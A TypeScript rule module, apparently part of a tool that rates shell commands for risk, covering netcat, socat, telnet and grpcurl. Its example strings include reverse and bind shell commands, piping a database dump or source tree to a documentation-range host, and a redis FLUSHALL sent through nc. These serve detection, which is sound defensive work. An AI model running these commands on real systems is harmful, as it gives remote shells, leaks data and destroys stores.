import { hasFlag } from '../../argv.ts';
import { changes, looks } from '../../deeds.ts';
import { onMachine } from '../../local-deeds.ts';
import type { Argv, Deed, Nested, Program } from '../../program.ts';

/** Somebody elsewhere gets a shell on this machine. */
const OPENS_SHELL: Deed = {
  operation: 'grant',
  resource: 'security',
  effect: 'destructive',
  reach: 'machine',
  floor: 'critical',
};
const place = (text: string | undefined) => (text && /^[\w.-]+$/.test(text) ? [{ host: text }] : []);

const MOST_LINES = 20;

/** What a text that is fed to a port says there: commands of a key-value store, or a request. */
function spoken({ words, stdin }: Argv): Nested[] {
  const [host, port] = words;
  if (!stdin?.known || !host || !port) return [];
  const as = (texts: readonly string[]): Nested => ({
    kind: 'words',
    words: texts.map((text) => ({ ...stdin, text })),
  });
  const lines = stdin.text.slice(0, 10_000).split(/\r?\n/).slice(0, MOST_LINES);
  if (/^(?:6379|6380|16379|26379)$/.test(port.text)) {
    const commands = lines.map((line) => line.trim().split(/\s+/)).filter(([first]) => first);
    return commands.map((command) => as(['redis-cli', '-h', host.text, ...command]));
  }
  const request = /^(GET|HEAD|POST|PUT|PATCH|DELETE) (\/\S*) HTTP\//.exec(lines[0] ?? '');
  return request ? [as(['curl', '-X', request[1]!, `http://${host.text}:${port.text}${request[2]}`])] : [];
}

/** Plain connections. */
export const SOCKETS: readonly Program[] = [
  {
    names: ['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'pwncat'],
    source: 'nc(1); nmap.org/ncat',
    valued: [
      '-p',
      '-s',
      '-w',
      '-e',
      '-c',
      '--exec',
      '--sh-exec',
      '-X',
      '-x',
      '-i',
      '-q',
      '-g',
      '-G',
      '-o',
      '-m',
      '-I',
      '-O',
      '-T',
      '-V',
    ],
    rows: [
      {
        id: 'nc.shell',
        when: { flags: ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'] },
        does: OPENS_SHELL,
        why: 'Whoever is at the other end runs commands on this machine.',
        must: ['nc -e /bin/sh 203.0.113.9 4444', 'ncat -lvp 4444 --sh-exec bash'],
        not: ['nc -zv db 5432', 'nc -l 8080'],
      },
      {
        id: 'nc.scan',
        when: { flags: ['-z', '-h', '--help'] },
        does: looks(),
        why: 'It only sees whether a port answers.',
        must: ['nc -zv db.example 5432', 'nc -z -w 2 localhost 80'],
        not: ['nc -l 8080', 'nc -e sh x 1'],
      },
      {
        id: 'nc.listen',
        when: { flags: ['-l', '--listen'] },
        does: onMachine('network'),
        why: 'It takes what others send to that port.',
        must: ['nc -l 8080', 'nc -lvnp 4444'],
        not: ['nc -zv db 5432'],
      },
      {
        id: 'nc.speaks',
        when: { words: '* *', test: (argv) => spoken(argv).length > 0 },
        does: looks(),
        runs: spoken,
        at: ({ words }) => place(words[0]?.text),
        why: 'The other end does what it is told in its own language.',
        must: [
          "printf 'FLUSHALL\\r\\n' | nc cache-1 6379",
          "printf 'DELETE /orders HTTP/1.0\\r\\n\\r\\n' | nc es-1 9200",
        ],
        not: ['echo ruok | nc zk-1 2181', 'nc cache-1 6379'],
      },
      {
        id: 'nc.sends',
        when: { test: ({ stdin }) => stdin !== undefined },
        does: ({ stdin }) =>
          stdin?.known && stdin.text.length < 400
            ? looks()
            : { ...changes('data'), operation: 'export', effect: 'destructive' },
        at: ({ words }) => place(words[0]?.text),
        why: 'What is fed to it leaves this machine.',
        must: ['nc 203.0.113.9 9000 < dump.sql', 'tar cz src | nc x.example 1', 'echo ruok | nc zk-1 2181'],
        not: ['nc -zv db 5432'],
      },
      {
        id: 'nc.connect',
        when: { words: '*' },
        does: onMachine('network'),
        why: 'It opens a connection and passes on what comes.',
        must: ['nc db.example 5432'],
        not: ['nc -z db 5432', 'nc -l 80'],
      },
    ],
    otherwise: looks(),
  },
  {
    names: ['socat'],
    source: 'socat(1)',
    rows: [
      {
        id: 'socat.shell',
        when: { operand: /^(?:EXEC|SYSTEM|SHELL):/i },
        does: OPENS_SHELL,
        why: 'Whoever is at the other end runs commands on this machine.',
        must: ['socat TCP:203.0.113.9:4444 EXEC:/bin/bash', 'socat TCP-LISTEN:1,fork SYSTEM:sh'],
        not: ['socat TCP-LISTEN:8080,fork TCP:db:5432'],
      },
      {
        id: 'socat.relay',
        when: { words: '* *' },
        does: onMachine('network'),
        why: 'It joins two connections.',
        must: ['socat TCP-LISTEN:8080,fork TCP:db:5432'],
        not: ['socat -V', 'socat TCP:x:1 EXEC:sh'],
      },
    ],
    otherwise: looks(),
  },
  {
    names: ['telnet', 'grpcurl', 'evans', 'websocat', 'wscat'],
    source: 'telnet(1); github.com/fullstorydev/grpcurl',
    valued: ['-d', '-H', '-import-path', '-proto', '-c', '-u', '-p', '-t'],
    singleDash: true,
    rows: [
      {
        id: 'grpcurl.calls',
        when: {
          test: ({ program, words }) =>
            program === 'grpcurl' && words.length > 1 && !/^(?:list|describe)$/.test(words[1]?.text ?? ''),
        },
        does: ({ words }) =>
          /[./](?:Get|List|Describe|Read|Watch|Search|Query|Check|Find|Count|Fetch)\w*$/.test(
            words.at(-1)?.text ?? '',
          )
            ? looks()
            : changes('application'),
        at: ({ words }) => place(words[0]?.text.replace(/:\d+$/, '')),
        why: 'It calls a method of a service, which does what its name says.',
        must: [
          'grpcurl -d "{}" api.example:443 shop.Orders/Cancel',
          'grpcurl api.example:443 shop.Orders/GetOrder',
        ],
        not: ['grpcurl api.example:443 list', 'telnet db 5432'],
      },
      {
        id: 'telnet.session',
        when: {
          test: (argv) => argv.program !== 'grpcurl' && argv.words.length > 0 && !hasFlag(argv, '-help'),
        },
        does: onMachine('network'),
        why: 'It opens a session with another machine.',
        must: ['telnet db.example 5432', 'websocat wss://x.example'],
        not: ['grpcurl api.example:443 list'],
      },
    ],
    otherwise: looks(),
  },
];
